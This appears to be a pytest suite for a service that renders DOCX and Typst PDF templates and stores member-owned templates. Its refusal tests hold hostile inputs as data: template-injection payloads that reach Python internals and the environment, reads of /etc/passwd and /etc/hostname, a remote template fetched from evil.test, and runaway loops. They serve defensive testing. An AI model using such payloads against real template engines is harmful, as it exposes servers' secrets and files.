"""Documents from templates in the chassis: what comes out, what a template cannot do, whose it is."""

from datetime import UTC, datetime
from typing import Any

import pytest

from shared.documents import render as renderer
from shared.documents.faults import DocumentIsTooLarge, TemplateIsWrong, TemplateTakesTooMuch
from shared.documents.plain import docx_of
from shared.documents.render import Format, render
from shared.documents.templates import produce
from shared.ids import new_id
from shared.refusal import Unavailable
from tests.shared.papers.conftest import SAMPLE, TEMPLATES, Office
from tests.shared.papers.samples import DOCX, PDF, docx_with, packed, text_of_docx, text_of_pdf

NASTY = 'Ёжик & <w:t>сыновья</w:t> {{ 7*7 }} {% raw %} #eval("1+1") $x$ *b* @a \\ "q" \'r\''
AT = datetime(2027, 2, 1, 9, 0, 1, 500, tzinfo=UTC)


# --- what comes out ------------------------------------------------------------------------------


async def test_values_stay_values_in_word_whatever_stands_in_them() -> None:
    made = await render(docx_of("# {{ title }}"), Format.DOCX, {"title": NASTY}, AT)
    assert text_of_docx(made) == NASTY


async def test_values_stay_values_in_pdf_whatever_stands_in_them() -> None:
    source = b"#json(bytes(sys.inputs.data)).title"
    made = await render(source, Format.PDF, {"title": NASTY}, AT)
    assert made.startswith(b"%PDF-")
    text = " ".join(text_of_pdf(made).split())
    for part in ("<w:t>сыновья</w:t>", "{{ 7*7 }}", '#eval("1+1")', "$x$ *b* @a"):
        assert part in text


async def test_a_pdf_is_the_same_to_the_byte_at_the_same_moment() -> None:
    source = "= Протокол № 1".encode()
    assert await render(source, Format.PDF, {}, AT) == await render(source, Format.PDF, {}, AT)


async def test_plain_lines_become_headings_items_and_tables() -> None:
    lines = "\n".join(
        [
            "# Протокол",
            "> г. Смоленск",
            "{%p for name in names %}",
            "- {{ name }}",
            "{%p endfor %}",
            "| Председатель | Секретарь |",
            "| {{ names[0] }} | {{ names[1] }} |",
            "Всего: {{ names|length }}",
        ]
    )
    made = await render(docx_of(lines), Format.DOCX, {"names": ["Ёлкина", "Яшин"]}, AT)
    text = text_of_docx(made).split("\n")
    assert text == [
        *("Протокол", "г. Смоленск", "Ёлкина", "Яшин", "Всего: 2"),
        *("Председатель", "Секретарь", "Ёлкина", "Яшин"),
    ]


# --- what a template cannot do -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("template", "made_as"),
    [
        (docx_with("{{ missing }}"), Format.DOCX),
        (docx_with("{{ open"), Format.DOCX),
        (docx_with("{{ ().__class__.__base__.__subclasses__() }}"), Format.DOCX),
        (docx_with("{{ cycler.__init__.__globals__.os.environ }}"), Format.DOCX),
        (docx_with("{% include '/etc/passwd' %}"), Format.DOCX),
        (b"PK\x03\x04 no document", Format.DOCX),
        (packed(word__document_xml=b"<w/>"), Format.DOCX),
        (b'#read("/etc/hostname")', Format.PDF),
        (b'#image("/etc/hostname")', Format.PDF),
        (b'#import "@preview/cetz:0.3.1": *', Format.PDF),
        (b"#json(bytes(sys.inputs.data)).missing", Format.PDF),
        (b"#let x = (", Format.PDF),
        (b"\xff\xfe", Format.PDF),
    ],
)
async def test_a_wrong_template_is_refused_with_the_reason(
    template: bytes, made_as: Format
) -> None:
    with pytest.raises(TemplateIsWrong) as refused:
        await render(template, made_as, {"title": "x"})
    assert refused.value.facts["reason"]


async def test_a_template_sees_no_environment_and_no_file(monkeypatch: Any) -> None:
    monkeypatch.setenv("ARTEL_SECRET", "tell nobody")
    with pytest.raises(TemplateIsWrong) as refused:
        await render(b"#panic(sys.inputs.keys())", Format.PDF, {"title": "x"})
    assert "tell nobody" not in str(refused.value)


@pytest.mark.parametrize(
    ("template", "made_as"),
    [
        (
            docx_with(
                "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"
            ),
            Format.DOCX,
        ),
        (b"#for a in range(99999) { for b in range(99999) { let x = a } }", Format.PDF),
        (docx_with("{{ 'a' * 4000000000 }}"), Format.DOCX),
    ],
)
async def test_a_template_that_never_ends_is_ended(
    template: bytes, made_as: Format, monkeypatch: Any
) -> None:
    monkeypatch.setattr(renderer, "SECONDS_MAX", 2)
    with pytest.raises((TemplateTakesTooMuch, TemplateIsWrong)):
        await render(template, made_as, {})


async def test_a_document_may_not_be_larger_than_is_kept(monkeypatch: Any) -> None:
    monkeypatch.setattr(renderer, "BYTES_MAX", 1000)
    with pytest.raises(DocumentIsTooLarge):
        await render(b"= A", Format.PDF, {})


async def test_who_asks_while_many_wait_is_told_to_come_again(monkeypatch: Any) -> None:
    monkeypatch.setattr(renderer, "WAITING_MAX", 0)
    with pytest.raises(Unavailable):
        await render(b"= A", Format.PDF, {})


# --- whose template ------------------------------------------------------------------------------


async def test_the_templates_of_the_service_are_listed_and_taken_home(office: Office) -> None:
    listed = (await office.ask("GET", "/document-templates")).json()["items"]
    assert [(each["name"], each["made_as"], each["is_own"]) for each in listed] == [
        ("deed", "docx", False),
        ("deed", "pdf", False),
    ]
    assert listed[0]["sample"] == SAMPLE
    word = await office.ask("GET", "/document-templates/deed.docx")
    assert "{{ title }}" in text_of_docx(word.content)
    typst = await office.ask("GET", "/document-templates/deed.pdf")
    assert typst.text.startswith("#let d = json")
    assert typst.headers["content-disposition"] == 'attachment; filename="deed.typ"'
    shown = await office.ask("GET", "/document-templates/deed.pdf/sample")
    assert "Иванова" in text_of_pdf(shown.content)


async def test_a_member_puts_its_own_template_in_place_and_goes_back(office: Office) -> None:
    made = await office.ask(
        "POST",
        "/document-templates/deed.docx",
        content=docx_with("Наш бланк: {{ title }}"),
        params={"file_name": "бланк.docx"},
    )
    assert made.status_code == 200, made.text
    assert made.json()["is_own"] is True
    data = {**SAMPLE, "title": "Договор"}
    template = TEMPLATES.get("deed", Format.DOCX)
    async with office.tx() as tx:
        own = await produce(tx, template, data, member_id=office.member_id)
        others = await produce(tx, template, data, member_id=new_id())
    assert text_of_docx(own) == "Наш бланк: Договор"
    assert text_of_docx(others).startswith("Договор\nСмоленск")
    again = await office.ask(
        "POST",
        "/document-templates/deed.docx",
        content=docx_with("Бланк второй: {{ title }}"),
        params={"file_name": "бланк.docx"},
    )
    assert again.status_code == 200
    assert len(await office.service.sql("SELECT FROM files")) == 1, "what it replaced is gone"
    back = await office.ask("DELETE", "/document-templates/deed.docx")
    assert back.json()["is_own"] is False
    assert await office.service.sql("SELECT FROM files") == []
    assert (await office.ask("DELETE", "/document-templates/deed.docx")).status_code == 404


@pytest.mark.parametrize(
    ("path", "content", "code"),
    [
        ("deed.docx", docx_with("{{ titel }}"), "template-wrong"),
        ("deed.docx", PDF, "file-type-not-taken"),
        ("deed.docx", DOCX, "template-wrong"),
        (
            "deed.docx",
            packed(
                word__document_xml=b"<w/>",
                **{
                    "word___rels__settings.xml.rels": b'<Relationship Id="r" Type="http://x/'
                    b'attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/>'
                },
            ),
            "template-wrong",
        ),
        ("deed.pdf", b"#let d = json(bytes(sys.inputs.data))\n#d.titel", "template-wrong"),
    ],
)
async def test_a_template_of_which_nothing_comes_is_not_taken(
    office: Office, path: str, content: bytes, code: str
) -> None:
    answer = await office.ask(
        "POST", f"/document-templates/{path}", content=content, params={"file_name": "бланк"}
    )
    assert (answer.status_code, answer.json()["code"]) == (422, code)
    assert await office.service.sql("SELECT FROM document_templates") == []
    assert await office.service.sql("SELECT FROM files") == []
